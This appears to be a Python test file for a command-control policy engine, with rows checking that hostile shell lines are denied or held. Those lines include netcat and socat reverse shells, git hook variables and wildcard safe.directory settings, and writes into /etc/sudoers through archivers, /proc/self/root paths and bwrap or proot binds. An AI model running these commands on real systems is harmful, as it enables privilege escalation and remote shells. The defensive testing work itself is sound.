"""Attack U's open list, items owned by issue 12 (round u3): programs read with the wrong
grammar, each closed as a class. Table rows against the shipped policy (config/policy.toml):
an attack half that must be held or refused, and an honest half that must stay as it was."""

from __future__ import annotations

from bastion.command_control.policy import Policy, evaluate
from tests.rows import each


def action(policy: Policy, line: str) -> str:
    return evaluate(policy, line, role="engineer", target="web01").action


@each(("line", "expected"), [
    # trusting every owner's repositories re-opens settings (hooks, fsmonitor) another user wrote
    ("git -c safe.directory=* status", "confirm"),
    ("git -c 'safe.directory=/home/*' -C /home/other/repo status", "confirm"),
    ("git --config-env=safe.directory=X status", "confirm"),  # its value is known at run time
    ("git --config-env safe.directory=X status", "confirm"),
    ("git config --global --add safe.directory '*'", "confirm"),
    ("git config --global safe.directory '/srv/*'", "confirm"),
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0=* git status", "confirm"),
    ("GIT_CONFIG_PARAMETERS=\"'safe.directory'='*'\" git status", "confirm"),
    # the environment's other spellings of git's settings, folders and programs
    ("GIT_CONFIG_GLOBAL=/tmp/gc git status", "confirm"),
    ("GIT_CONFIG_SYSTEM=/tmp/gc git status", "confirm"),
    ("GIT_DIR=/home/other/.git git status", "confirm"),
    ("GIT_EXEC_PATH=/tmp git status", "confirm"),
    ("GIT_WORK_TREE=/etc git checkout -- sudoers", "deny"),
    ("GIT_SSH_COMMAND='cp /tmp/x /etc/sudoers.d/x' git fetch", "deny"),
    ("GIT_PAGER='cp /tmp/x /etc/sudoers.d/x' git log", "deny"),
    ("GIT_EDITOR='cp /tmp/x /etc/sudoers.d/x' git commit", "deny"),
    ("GIT_ASKPASS='cp /tmp/x /etc/sudoers.d/x' git fetch", "deny"),
    ("GIT_EXTERNAL_DIFF='cp /tmp/x /etc/sudoers.d/x' git diff", "deny"),
    # honest halves: one named repository, settings that hold no code
    ("git -c safe.directory=/srv/app -C /srv/app status", "allow"),
    ("git config --global --add safe.directory /srv/app", "allow"),
    ("GIT_PAGER=cat git log", "allow"),
])
def test_attack_u_git_trust_and_environment_spellings(default_policy: Policy, line: str,
                                                      expected: str) -> None:
    assert action(default_policy, line) == expected


@each(("line", "expected"), [
    # socat's address options naming a file it writes, and its other file addresses
    ("socat - READLINE,history=/etc/sudoers.d/x", "deny"),
    ("socat TCP-LISTEN:80 readline,History-File=/etc/sudoers.d/x", "deny"),
    ("socat - NAMEDPIPE:/etc/sudoers.d/x", "deny"),
    ("socat - namedpipe:/etc/sudoers.d/x", "deny"),
    ("socat - PIPE:/etc/sudoers.d/x", "deny"),
    ("socat - Create:/etc/sudoers.d/x", "deny"),
    ("socat - gopen:/etc/sudoers.d/x", "deny"),
    ("socat - OPEN:/etc/sudoers.d/x,creat", "deny"),
    ("socat - UNIX-L:/etc/sudoers.d/x", "deny"),
    ("socat - TCP:host:80,lockfile=/etc/sudoers.d/x", "deny"),
    ("socat - TCP:host:80,waitlock=/etc/sudoers.d/x", "deny"),
    ("socat STDIO,LockFile=/etc/sudoers.d/x TCP:host:80", "deny"),
    ("socat - PTY,link=/etc/sudoers.d/x", "deny"),
    ("socat - exec:'cp /tmp/x /etc/sudoers.d/x'", "deny"),
    ("socat - SYSTEM:'cp /tmp/x /etc/sudoers.d/x'", "deny"),
    # a command run as another user or under another root: its paths name other files
    ("socat - EXEC:/bin/sh,su=root", "confirm"),
    ("socat - SYSTEM:id,chroot=/tmp/r", "confirm"),
    ("socat - EXEC:id,substuser-delayed=root", "confirm"),
    ("socat - EXEC:id,setuid=0", "confirm"),
    # every netcat's code options, under each of its names
    ("nc.traditional -c 'cp /tmp/x /etc/sudoers.d/x' host 80", "deny"),
    ("netcat.traditional -e /bin/sh host 80", "deny"),
    ("nc.openbsd -e /bin/sh host 80", "deny"),
    ("nc6 -e /bin/sh host 80", "deny"),
    ("cryptcat -e /bin/sh host 80", "deny"),
    ("ncat --sh-exec 'cp /tmp/x /etc/sudoers.d/x' host 80", "deny"),
    ("ncat --sh 'cp /tmp/x /etc/sudoers.d/x' host 80", "deny"),
    ("ncat -c 'cp /tmp/x /etc/sudoers.d/x' host 80", "deny"),
    ("ncat --lua-exec /tmp/x.lua host 80", "confirm"),
    ("busybox nc -lp 80 -e /bin/sh", "deny"),
    # every name of a netcat is a raw connection (the shipped alert)
    ("nc.openbsd -zv host 80", "alert"),
    ("nc.traditional -zv host 80", "alert"),
    ("netcat.openbsd host 80", "alert"),
    ("nc6 host 80", "alert"),
    # honest halves
    ("socat TCP-LISTEN:8080,fork TCP:localhost:80", "alert"),
    ("socat - UNIX-CONNECT:/run/app.sock", "alert"),
    ("socat -u OPEN:/var/log/syslog -", "alert"),
    ("nc -zv host 80", "alert"),
])
def test_attack_u_socat_options_and_every_netcat(default_policy: Policy, line: str,
                                                 expected: str) -> None:
    assert action(default_policy, line) == expected


@each(("line", "expected"), [
    # archivers and image makers writing the file an option or an operand names
    ("cpio -o --file=/etc/sudoers.d/x < /tmp/list", "deny"),
    ("cpio -o -F /etc/sudoers.d/x < /tmp/list", "deny"),
    ("cpio -oF/etc/sudoers.d/x < /tmp/list", "deny"),
    ("cpio --create -F /etc/sudoers.d/x < /tmp/list", "deny"),
    ("cpio -o -O /etc/sudoers.d/x < /tmp/list", "deny"),
    ("dpkg-split -o /etc/sudoers.d/x -j /tmp/a", "deny"),
    ("dpkg-split --output /etc/sudoers.d/x -j /tmp/a", "deny"),
    ("dpkg-split -j /tmp/a.1 /tmp/a.2", "confirm"),  # named by the parts' contents
    ("genisoimage -o /etc/sudoers.d/x /tmp", "deny"),
    ("mkisofs -o /etc/sudoers.d/x /tmp", "deny"),
    ("xorrisofs -o /etc/sudoers.d/x /tmp", "deny"),
    ("xorriso -as mkisofs -o /etc/sudoers.d/x /tmp", "deny"),
    ("xorriso -outdev /etc/sudoers.d/x -add /tmp", "deny"),
    ("xorriso -dev /etc/sudoers.d/x -add /tmp", "deny"),
    ("xorriso -osirrox on -indev /tmp/a.iso -extract /x /etc/sudoers.d/x", "confirm"),
    ("xorriso -osirrox on -indev /tmp/a.iso -cpx /x /etc/sudoers.d", "confirm"),
    ("mksquashfs /tmp /etc/sudoers.d/x", "deny"),
    ("mksquashfs /tmp /srv /etc/sudoers.d/x -comp xz", "deny"),
    ("zip -O /etc/sudoers.d/x /tmp/a.zip /tmp/y", "deny"),
    ("zip --output-file=/etc/sudoers.d/x /tmp/a.zip", "deny"),
    ("rar x /tmp/a.rar /etc/sudoers.d/", "confirm"),
    ("rar a /etc/sudoers.d/x /tmp/y", "deny"),
    # those already read: each stays refused or held
    ("cpio -i -D /etc/sudoers.d < /tmp/a.cpio", "confirm"),
    ("jar --extract --dir /etc/sudoers.d --file /tmp/a.jar", "confirm"),
    ("7z x -o/etc/sudoers.d /tmp/a.7z", "confirm"),
    ("unrar x /tmp/a.rar /etc/sudoers.d/", "confirm"),
    ("lha xw=/etc/sudoers.d /tmp/a.lzh", "confirm"),
    ("arj x /tmp/a.arj /etc/sudoers.d/", "confirm"),
    ("zstd -d /tmp/y.zst -o /etc/sudoers.d/x", "deny"),
    ("split --additional-suffix=x /tmp/y /etc/sudoers.d/", "confirm"),
    ("csplit -f /etc/sudoers.d/x /tmp/y 1", "deny"),
    ("tee -a /etc/sudoers.d/x", "deny"),
    # honest halves
    ("cpio -o --file=/tmp/a.cpio < /tmp/list", "allow"),
    ("cpio -i -F /etc/sudoers.d/x -t", "allow"),  # copy-in reads the archive -F names
    ("dpkg-split -o /tmp/p.deb -j /tmp/a.1 /tmp/a.2", "allow"),
    ("genisoimage -o /tmp/a.iso /srv/app", "allow"),
    ("xorriso -indev /tmp/a.iso -ls /", "allow"),
    ("mksquashfs /srv /tmp/a.sq -comp xz", "allow"),
    ("zip -r /tmp/a.zip /srv/app", "allow"),
    ("rar a /tmp/a.rar /srv/app", "allow"),
    ("rar l /tmp/a.rar", "allow"),
])
def test_attack_u_archivers_write_where_their_options_say(default_policy: Policy, line: str,
                                                          expected: str) -> None:
    assert action(default_policy, line) == expected


@each(("line", "expected"), [
    # a program under its version, a Debian alternative's name or GNU's `g` prefix is read
    # with its base program's grammar and tables
    ("gsed -i s/a/b/ /etc/sudoers", "deny"),
    ("gsed 'w /etc/sudoers.d/x' /tmp/x", "deny"),
    ("gcp /tmp/x /etc/sudoers.d/x", "deny"),
    ("gtouch /etc/sudoers.d/x", "deny"),
    ("gtee /etc/sudoers.d/x", "deny"),
    ("gpg2 -o /etc/sudoers.d/x -d /tmp/x.gpg", "deny"),
    ("ssh2 -E /etc/sudoers.d/x host", "deny"),
    ("cp5 /tmp/x /etc/sudoers.d/x", "deny"),
    ("echo id | node18", "deny"),
    ("echo 'exec id' | wish8.6", "deny"),
    ("echo 'exec id' | expect5.45", "deny"),
    ("echo id | python3.11", "deny"),
    ("echo id | perl5.36", "deny"),
    ("echo id | ruby3.1", "deny"),
    ("echo id | php8.2", "deny"),
    ("echo id | lua5.4", "deny"),
    ("echo id | bash5", "deny"),
    ("bash-5.2 -c 'cp /tmp/x /etc/sudoers.d/x'", "deny"),
    ("vim.basic /etc/sudoers.d/x", "confirm"),
    ("vim.nox /etc/sudoers", "confirm"),
    ("red /etc/sudoers.d/x", "confirm"),  # ed's restricted name, in the shipped editor rules
    ("rvim /etc/sudoers", "confirm"),
    ("nc.openbsd -e /bin/sh host 80", "deny"),
    # honest halves
    ("gsed -n 1p /etc/hosts", "allow"),
    ("python3.11 script.py", "allow"),
    ("gawk '{print $1}' /var/log/syslog", "allow"),
    ("gpg2 --list-keys", "allow"),
    ("python3-config --cflags", "allow"),
])
def test_attack_u_versioned_and_alternative_names_are_their_program(default_policy: Policy, line: str,
                                                                    expected: str) -> None:
    assert action(default_policy, line) == expected


@each(("line", "expected"), [
    # a link through a process's own view names what the process using it sees, then
    ("ln -s /proc/self/cwd /tmp/L", "confirm"),
    ("ln -s /proc/thread-self/cwd/ /tmp/L", "confirm"),
    ("ln -s /proc/./self/cwd /tmp/L", "confirm"),
    ("ln -s ../proc/self/cwd /tmp/L", "confirm"),  # read from the link's folder: /proc/self/cwd
    ("ln -s /dev/fd/3 /tmp/L", "confirm"),
    ("ln -sf /proc/1/root /tmp/L", "deny"),  # the root: every protected file, for certain
    ("cp -rs /proc/self/cwd /tmp/L", "confirm"),
    # paths through a process's view, written now
    ("echo x > /proc/self/root/etc/sudoers", "deny"),
    ("cp /tmp/x /proc/thread-self/root/etc/sudoers.d/x", "deny"),
    ("cd /etc/sudoers.d && cp /tmp/x /proc/self/cwd/x", "deny"),
    ("cp /tmp/x /proc/1/cwd/x", "confirm"),  # another process's working directory
    ("exec 3>/etc/sudoers.d/x; cp /tmp/x /dev/fd/3", "deny"),
    # a folder given a new name: bindfs as mount --bind; bwrap's and proot's binds elsewhere
    ("bindfs /etc /tmp/e", "confirm"),
    ("bindfs /etc/sudoers.d /tmp/e", "deny"),
    ("mount --rbind /etc /tmp/e", "confirm"),
    ("bwrap --bind /etc /tmp/e cp /tmp/x /tmp/e/sudoers", "confirm"),
    ("bwrap --dev-bind /etc /tmp/e cp /tmp/x /tmp/e/sudoers", "confirm"),
    ("bwrap --bind / / --symlink /etc /tmp/e cp /tmp/x /tmp/e/sudoers", "confirm"),
    ("bwrap --bind / / --file 3 /etc/sudoers.d/x true", "confirm"),
    ("bwrap --bind / / --chmod 0777 /etc/sudoers true", "confirm"),
    ("bwrap --overlay /tmp/rw /tmp/w /etc id", "confirm"),  # an option read with 3 arguments
    ("bwrap --bind / / cp /tmp/x /etc/sudoers.d/x", "deny"),
    ("proot -b /etc:/tmp/e cp /tmp/x /tmp/e/sudoers", "confirm"),
    ("proot --bind=/etc:/tmp/e cp /tmp/x /tmp/e/sudoers", "confirm"),
    ("proot -m /etc:/tmp/e cp /tmp/x /tmp/e/sudoers", "confirm"),
    ("proot -r /tmp/r cp /tmp/x /etc/sudoers.d/x", "deny"),
    ("chroot /mnt/sysroot cp /tmp/x /etc/sudoers.d/x", "deny"),
    ("nsenter -t 1 -m cp /tmp/x /etc/sudoers.d/x", "deny"),
    ("unshare -m sh -c 'mount --bind /tmp/y /etc/sudoers.d; cp /tmp/x /etc/sudoers.d/x'", "deny"),
    # honest halves
    ("ln -s /srv/app/releases/3 /srv/app/current", "allow"),
    ("readlink /proc/self/cwd", "allow"),
    ("cd /srv && cp /tmp/x /proc/self/cwd/x", "allow"),
    ("bwrap --ro-bind / / --unshare-net --die-with-parent ls /srv", "allow"),
    ("bwrap --bind /srv /srv --chdir /srv cp a b", "allow"),
    ("proot -b /srv:/srv make", "allow"),
    ("proot -b /etc cp /tmp/x /srv/y", "allow"),
])
def test_attack_u_paths_through_a_process_view_and_folders_bound_elsewhere(
        default_policy: Policy, line: str, expected: str) -> None:
    assert action(default_policy, line) == expected


@each(("line", "expected"), [
    # where a build writes, as far as its line says: the build folder, an install's destination
    ("cmake -B /etc/sudoers.d -S /tmp/src", "confirm"),
    ("cmake -S /tmp/src -B/etc/sudoers.d", "confirm"),
    ("cmake --build /etc/sudoers.d", "confirm"),
    ("cmake --install /tmp/build --prefix /etc", "confirm"),
    ("cmake --install build --prefix=/etc/sudoers.d", "confirm"),
    ("cmake -DCMAKE_INSTALL_PREFIX=/etc /tmp/src", "confirm"),
    ("cmake -DCMAKE_INSTALL_PREFIX:PATH=/etc /tmp/src", "confirm"),
    ("cd /etc && cmake /tmp/src", "confirm"),  # configured here
    ("cmake -B\"$b\" -S src", "confirm"),  # an option's folder known only at run time
    ("make -C /etc/sudoers.d", "confirm"),
    ("make --directory=/etc/sudoers.d", "confirm"),
    ("make -C /tmp/src install DESTDIR=/etc", "confirm"),
    ("make sysconfdir=/etc install", "confirm"),
    ("meson setup /etc/sudoers.d", "confirm"),
    ("meson install -C /tmp/build --destdir /etc", "confirm"),
    ("ninja -C /etc/sudoers.d", "confirm"),
    ("cmake -E copy /tmp/x /etc/sudoers.d/x", "deny"),
    # honest halves: builds in a build folder, installs into a staging folder, job counts
    ("cmake -S . -B build", "allow"),
    ("cmake ..", "allow"),
    ("cmake --build build -j$(nproc)", "allow"),
    ("cmake --install build", "allow"),  # where the project's files say (not read)
    ("cmake \"$builddir\"", "allow"),
    ("make -j$(nproc)", "allow"),
    ("make install", "allow"),
    ("make install DESTDIR=/tmp/pkg", "allow"),
    ("make prefix=/etc", "allow"),  # no install target: a build's variable
    ("meson setup build", "allow"),
    ("meson install -C build --destdir /tmp/pkg", "allow"),
    ("ninja -C build", "allow"),
])
def test_attack_u_builds_write_their_folders_and_install_destinations(
        default_policy: Policy, line: str, expected: str) -> None:
    assert action(default_policy, line) == expected
